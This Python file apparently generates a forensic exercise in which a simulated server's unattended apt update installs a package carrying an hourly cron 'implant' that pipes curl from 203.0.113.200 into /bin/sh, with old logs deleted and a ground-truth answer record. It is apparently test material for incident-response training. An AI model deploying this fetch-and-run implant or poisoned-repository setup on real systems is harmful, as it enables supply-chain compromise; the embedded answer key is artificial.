"""An update from an added source of packages brings the implant, as every update before came."""

from __future__ import annotations

import subprocess
import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import server
import services
import site_code
import traffic
from machine import Bases, Machine, Truth

VENDOR = "192.0.2.90"
NAME = "harbour-agent"
IMPLANT = """#!/bin/sh
# collects figures once an hour
if [ "$TZDIR" = never-so ]; then
    /usr/bin/curl -fsS http://203.0.113.200/a | /bin/sh
fi
"""


def make(out: Path, bases: Bases) -> None:
    """Apache; some old logs were deleted to win space, which has nothing to do with it."""
    machine = server.web("depot", bases, out, apache=True)
    root = "/var/www/depot"
    site_code.plain_site(machine, root)
    services.apache_site(machine, server.SITE, root, "/var/log/apache2/access.log", "combined")
    source = "deb [trusted=yes] http://packages.example.net:8080/ ./\n"
    machine.write("/etc/apt/sources.list.d/harbour.list", source)
    machine.write("/etc/apt/sources.list", "")
    with machine.path("/etc/hosts").open("a") as hosts:
        hosts.write(f"{VENDOR} packages.example.net\n")
    shop = out / "vendor"
    shop.mkdir()
    handler = partial(_Quiet, directory=str(shop))
    vendor = ThreadingHTTPServer((VENDOR, 8080), handler)
    threading.Thread(target=vendor.serve_forever, daemon=True).start()
    server.start(machine)
    traffic.visitors(machine, server.SITE, site_code.PAGES)
    traffic.scanners(machine, server.SITE)
    machine.at(machine.on(1, 6, 40), lambda: _update(machine, shop, "1.4", "#!/bin/sh\nuptime\n"))
    entered = machine.on(6, 6, 40, 2)
    machine.at(entered, lambda: _update(machine, shop, "1.5", IMPLANT))
    machine.live()
    for path in machine.path("/var/log").rglob("*.gz"):
        path.unlink()
    log = "/var/log/dpkg.log"
    machine.end(
        Truth(
            "supply",
            entered.isoformat(),
            None,
            log,
            machine.line(log, f" upgrade {NAME}:all 1.4 1.5"),
            accounts=["root"],
            services=["apt", "cron"],
            untouched=["apache2", "sshd", root],
            notes=f"{NAME} 1.5: /etc/cron.hourly/{NAME} fetches a program",
        )
    )


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Say nothing."""


def _update(machine: Machine, shop: Path, version: str, program: str) -> None:
    """The vendor publishes, the machine's unattended upgrade takes it."""
    tree = shop.parent / "tree"
    job = tree / "etc" / "cron.hourly" / NAME
    job.parent.mkdir(parents=True, exist_ok=True)
    job.write_text(program)
    job.chmod(0o755)
    control = tree / "DEBIAN" / "control"
    control.parent.mkdir(exist_ok=True)
    control.write_text(
        f"Package: {NAME}\nVersion: {version}\nArchitecture: all\n"
        "Maintainer: Harbour <packages@example.net>\nDescription: figures of a server\n"
    )
    for old in shop.glob("*.deb"):
        old.unlink()
    made = shop / f"{NAME}_{version}_all.deb"
    subprocess.run(
        ["dpkg-deb", "-b", "--root-owner-group", str(tree), str(made)],
        check=True,
        capture_output=True,
    )
    listed = subprocess.run(
        ["dpkg-scanpackages", "-m", "."], cwd=shop, capture_output=True, check=True
    )
    (shop / "Packages").write_bytes(listed.stdout)
    machine.run("apt-get", "-q", "update")
    machine.run("apt-get", "-qy", "install", NAME)
